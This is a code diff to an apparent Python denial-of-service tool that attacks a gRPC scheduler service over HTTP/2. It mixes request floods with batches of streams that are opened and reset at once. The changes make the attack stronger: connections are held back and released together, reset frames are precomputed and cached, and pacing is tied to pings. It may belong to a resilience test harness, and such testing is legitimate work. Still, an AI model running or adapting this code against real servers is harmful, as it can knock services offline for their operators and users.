@@ -17,6 +17,7 @@ import resource
 import signal
 import struct
 from collections import Counter
+from functools import lru_cache
 from pathlib import Path
 from typing import cast
 
@@ -38,7 +39,7 @@ PATH = "/schedsvc.v1.SchedulerService/Admit"
 _SPARE_FILES = 64
 _CONNECTING_AT_ONCE = 128
 _RESETS_AT_ONCE = 100
-_AGAIN_S = 1.0
+_AGAIN_S = 5.0
 _NAME_BYTES = 250
 _FILLER_FIELD = 1_000
 
@@ -68,6 +69,13 @@ def _varint(value: int) -> bytes:
     return bytes((*out, value))
 
 
+@lru_cache(maxsize=1_024)
+def _resets(before: int) -> bytes:
+    """Write calls on the streams after one, each cancelled at once: alike for all connections."""
+    streams = range(before + 2, before + 2 + 2 * _RESETS_AT_ONCE, 2)
+    return b"".join(http2.call(stream, PATH, b"") + http2.reset(stream) for stream in streams)
+
+
 class Attack:
     """What all connections share: the messages, and the count of what happens."""
 
@@ -82,6 +90,14 @@ class Attack:
         self._metadata = (("authorization", f"Bearer {token}"),) if token else ()
         self._message, self._id_at, self._tenant_at = _message(message_bytes)
         self._made = 0
+        #: Those that wait for all to be there; None once they attack.
+        self.waiting: set[_Connection] | None = set()
+
+    def begin(self) -> None:
+        """Attack with all connections that are there, and with each that comes."""
+        waiting, self.waiting = self.waiting or set(), None
+        for connection in waiting:
+            connection.go_on()
 
     def next_kind(self) -> str:
         """Say what the next connection does."""
@@ -108,6 +124,8 @@ class _Connection(asyncio.Protocol):
         self._stream = -1
         self._next = b""
         self._open = 0
+        self._pinged = False
+        self.lost = asyncio.get_running_loop().create_future()
 
     def connection_made(self, transport: asyncio.BaseTransport) -> None:
         # uvloop's transports write, though they are no asyncio.WriteTransport.
@@ -115,7 +133,10 @@ class _Connection(asyncio.Protocol):
         self._attack.counts["connected"] += 1
         if self._kind != "silent":
             self._transport.write(http2.OPENING)
-        self._go_on()
+        if self._attack.waiting is None:
+            self.go_on()
+        else:
+            self._attack.waiting.add(self)
 
     def data_received(self, data: bytes) -> None:
         counts = self._attack.counts
@@ -125,6 +146,8 @@ class _Connection(asyncio.Protocol):
                 self._transport.write(http2.frame(Kind.SETTINGS, http2.ACK))
             elif frame.kind == Kind.PING and not frame.flags & http2.ACK:
                 self._transport.write(http2.frame(Kind.PING, http2.ACK, 0, frame.payload))
+            elif frame.kind == Kind.PING:
+                self._pinged = False
             elif frame.kind == Kind.WINDOW_UPDATE and frame.stream == 0:
                 self._window += frame.increment
             elif frame.kind == Kind.GOAWAY:
@@ -132,15 +155,21 @@ class _Connection(asyncio.Protocol):
             elif frame.ends and self._open:
                 self._open -= 1
                 counts["reset" if frame.kind == Kind.RST_STREAM else "answered"] += 1
-        self._go_on()
+        if self._attack.waiting is None:
+            self.go_on()
 
     def connection_lost(self, error: Exception | None) -> None:
         self._attack.counts["lost"] += 1
+        if self._attack.waiting is not None:
+            self._attack.waiting.discard(self)
+        if not self.lost.done():
+            self.lost.set_result(None)
 
-    def _go_on(self) -> None:
+    def go_on(self) -> None:
+        """Do the next harm, where there is room for it."""
         if self._kind == "flood" and not self._open:
             self._flood()
-        elif self._kind == "resets":
+        elif self._kind == "resets" and not self._pinged:
             self._reset()
 
     def _flood(self) -> None:
@@ -155,29 +184,27 @@ class _Connection(asyncio.Protocol):
             self._next = b""
 
     def _reset(self) -> None:
-        out = []
-        for _ in range(_RESETS_AT_ONCE):
-            self._stream += 2
-            out += [http2.call(self._stream, PATH, b""), http2.reset(self._stream)]
+        self._transport.write(_resets(self._stream))
+        self._stream += 2 * _RESETS_AT_ONCE
         self._attack.counts["sent"] += _RESETS_AT_ONCE
-        self._transport.write(b"".join(out))
         # What a reset stream would still be told does not come, so a ping asks to go on.
+        self._pinged = True
         self._transport.write(http2.frame(Kind.PING, 0, 0, struct.pack(">Q", self._stream)))
 
 
 async def _connect(attack: Attack, host: str, port: int, gate: asyncio.Semaphore) -> None:
-    """Connect, and again after a second where that failed or was ended."""
+    """Connect, and again after a while where that failed or was ended."""
     loop = asyncio.get_running_loop()
     while True:
         try:
             async with gate:
-                transport, _ = await loop.create_connection(lambda: _Connection(attack), host, port)
+                _, made = await loop.create_connection(lambda: _Connection(attack), host, port)
         except OSError:
             attack.counts["refused"] += 1
             await asyncio.sleep(_AGAIN_S)
             continue
-        while not transport.is_closing():  # noqa: ASYNC110 - nobody is told of it
-            await asyncio.sleep(_AGAIN_S)
+        await made.lost
+        await asyncio.sleep(_AGAIN_S)
 
 
 async def _attack(attack: Attack, target: str, connections: int, ready_file: Path) -> None:
@@ -192,6 +219,7 @@ async def _attack(attack: Attack, target: str, connections: int, ready_file: Pat
         if attack.counts["connected"] + attack.counts["refused"] >= connections:
             break
         await asyncio.sleep(0.05)
+    attack.begin()
     ready_file.touch()  # noqa: ASYNC240 - nothing waits for it here
     await stop.wait()
     for task in tasks:
